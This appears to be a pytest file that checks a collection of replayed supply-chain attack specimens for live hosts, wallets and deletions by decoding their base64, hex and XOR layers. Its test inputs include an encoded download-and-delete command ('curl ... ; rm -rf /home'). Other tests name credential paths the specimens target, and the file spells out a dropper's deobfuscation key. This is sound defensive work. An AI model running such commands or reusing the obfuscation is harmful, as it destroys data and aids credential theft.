"""Nothing in a replay can do harm: every layer of every file is looked at for hosts, addresses and deletions."""

import base64
import contextlib
import ipaddress
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[1]
REPLAYS = ROOT / "replays"
PLACES = (REPLAYS, ROOT / "evals" / "missed")
FOLDERS = sorted(sheet.parent for place in PLACES for sheet in place.rglob("replay.toml"))
FILES = sorted(path for place in PLACES for path in place.rglob("*") if path.is_file())
DOCUMENTATION = [ipaddress.ip_network(net) for net in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")]

URL = re.compile(r"(?<![a-z0-9+.-])[a-z][a-z0-9+.-]*://([^/\s\"'\\<>)]+)", re.IGNORECASE)
ADDRESS = re.compile(r"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")
MAIL = re.compile(r"(?<![\w.+-])[\w.+-]+@((?:[\w-]+\.)+[a-z]{2,})\b", re.IGNORECASE)
HOST = re.compile(
    r"(?<![\w./-])(?:[a-z0-9-]+\.)+(?:com|net|org|io|ru|cn|xyz|top|host|dev|cloud|info|biz|live|su)\b", re.IGNORECASE
)
WALLET = re.compile(
    r"\b(?:0x[0-9a-f]{40}|[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}|bc1[02-9ac-hj-np-z]{39,59})\b", re.IGNORECASE
)
DELETION = re.compile(
    r"(?:\b(?:unlink|unlinkSync|rmSync|rename|renameSync|rmdir|rmtree|remove|truncate)\("
    r"|\brm -[rf]+ |\bdel /?)([^,;)\n]*)"
)
BASE64 = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
HEX = re.compile(r"\b(?:[0-9a-f]{2}){4,}\b")
QUOTED = re.compile(r'"([A-Za-z0-9+/_]{6,})"')
AXIOS_KEY = "SpEcI_4077"


def layers(text: str, depth: int = 4) -> Iterator[str]:
    """Yield a text and every text that the encodings we know hide in it."""
    if AXIOS_KEY in text:
        text = resolved(text)
    yield text
    if depth == 0:
        return
    for found in BASE64.findall(text):
        with contextlib.suppress(ValueError):
            yield from _readable(base64.b64decode(found + "=" * (-len(found) % 4)), depth)
    for found in HEX.findall(text):
        yield from _readable(bytes.fromhex(found), depth)


def _readable(data: bytes, depth: int) -> Iterator[str]:
    text = data.decode("ascii", "ignore")
    if len(text) == len(data) >= 4 and text.replace("\n", "").isprintable():
        yield from layers(text, depth - 1)


def resolved(text: str) -> str:
    """Return the dropper with the strings of its table in the place of ``n(<index>)``."""
    table = [_unhidden(found) for found in QUOTED.findall(text[: text.index("ord=")])]
    return re.sub(r"\bn\((\d+)\)", lambda match: repr(table[int(match[1])]), text)


def _unhidden(text: str) -> str:
    """Undo the two layers: reversed base64 with ``_`` for ``=``, then xor with a key whose letters count as 0."""
    outer = base64.b64decode(text[::-1].replace("_", "=")).decode()
    key = [int(letter) if letter.isdigit() else 0 for letter in AXIOS_KEY]
    return "".join(chr(ord(letter) ^ key[7 * at * at % 10] ^ 333) for at, letter in enumerate(outer))


def harm(text: str) -> Iterator[str]:
    """Yield what one layer names that a replay must not name."""
    for match in URL.finditer(text):
        if not allowed_host(match[1].rpartition("@")[2].partition(":")[0]):
            yield f"host {match[0]}"
    for match in ADDRESS.finditer(text):
        if not allowed_host(match[0]):
            yield f"address {match[0]}"
    for match in MAIL.finditer(text):
        if not match[1].lower().endswith(".invalid"):
            yield f"mail {match[0]}"
    yield from (f"host {match[0]}" for match in HOST.finditer(text))
    yield from (f"wallet {match[0]}" for match in WALLET.finditer(text))
    yield from (f"publish {line}" for line in text.splitlines() if "npm publish" in line and "--dry-run" not in line)
    for match in DELETION.finditer(text):
        if not under_nonexistent(match[1], text):
            yield f"deletion {match[0]}"


def allowed_host(host: str) -> bool:
    """Whether a host can never be reached: under ``.invalid``, or an address for documentation."""
    if host.lower().endswith(".invalid"):
        return True
    try:
        return any(ipaddress.ip_address(host) in network for network in DOCUMENTATION)
    except ValueError:
        return False


def under_nonexistent(target: str, text: str) -> bool:
    """Whether a path, or the variable that holds it, begins with ``/nonexistent``."""
    target = target.strip()
    if re.match(r"['\"]*/nonexistent['\"/@]", target):
        return True
    return target.isidentifier() and bool(re.search(rf"\b{target} ?= ?['\"]/nonexistent['\"/]", text))


def published_source(path: Path, text: str) -> str:
    """Return a sheet without the real repository that a provenance names: a statement about the past, not a contact."""
    if path.name != "replay.toml":
        return text
    return re.sub(r'(provenance = \{ repository = ")https://github\.com/[\w-]+/[\w-]+"', r'\1"', text)


@pytest.mark.parametrize("path", FILES, ids=lambda path: str(path.relative_to(ROOT)))
def test_every_layer_is_inert(path: Path) -> None:
    """Hosts, addresses, mails and wallets cannot exist; what is deleted or renamed cannot either."""
    text = published_source(path, path.read_bytes().decode("utf-8"))
    found = [problem for layer in layers(text) for problem in harm(layer)]
    assert found == []


@pytest.mark.parametrize(
    "text",
    [
        "see https://stage.example/x",
        "connect 10.0.0.1",
        "write to someone@mail.example",
        "host stage.com",
        "pay 0x52908400098527886E0F7030069857D2E4169EE7",
        "npm publish",
        "fs.unlink(__filename)",
        "rm -rf /tmp/x",
        "os.remove(path)",
        base64.b64encode(base64.b64encode(b"curl http://198.18.0.1/x; rm -rf /home")).decode(),
        "687474703a2f2f73746167652e6578616d706c65",
    ],
)
def test_the_look_is_not_blind(text: str) -> None:
    """Each kind of harm is seen, also two layers deep."""
    assert any(list(harm(layer)) for layer in layers(text))


@pytest.mark.parametrize(
    ("name", "hidden"),
    [
        ("2026-03-axios--1.14.1/dependencies/plain-crypto-js@4.2.1/setup.js", "'http://stage.invalid:8000/'"),
        ("2026-03-axios--1.14.1/dependencies/plain-crypto-js@4.2.1/setup.js", "osascript"),
        ("2018-09-event-stream/dependencies/flatmap-stream@0.1.1/test/data.js", "npm_package_description"),
        ("2018-09-event-stream/dependencies/flatmap-stream@0.1.1/index.min.js", "./test/data"),
        ("2026-03-litellm--1.82.7/inserts/proxy_server.py", ".aws/credentials"),
        ("2026-03-litellm--1.82.8/overlay/litellm_init.pth", ".config/hostmetrics"),
        ("2026-03-litellm--1.82.8/overlay/litellm_init.pth", "/nonexistent/tmp/metrics"),
    ],
)
def test_the_look_reaches_what_the_specimens_hide(name: str, hidden: str) -> None:
    """The innermost layer of every encoded specimen is read by the test above."""
    text = (REPLAYS / name).read_text(encoding="utf-8")
    assert hidden not in text
    assert any(hidden in layer for layer in layers(text))


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda path: path.name)
def test_a_replay_is_a_description_not_a_sample(folder: Path) -> None:
    """No folder is larger than 200 KB, and none holds an archive, a binary or a link."""
    paths = list(folder.rglob("*"))
    assert sum(path.stat().st_size for path in paths if path.is_file()) <= 200_000
    assert not [path for path in paths if path.is_symlink()]
    assert not [path for path in paths if path.is_file() and b"\0" in path.read_bytes()]
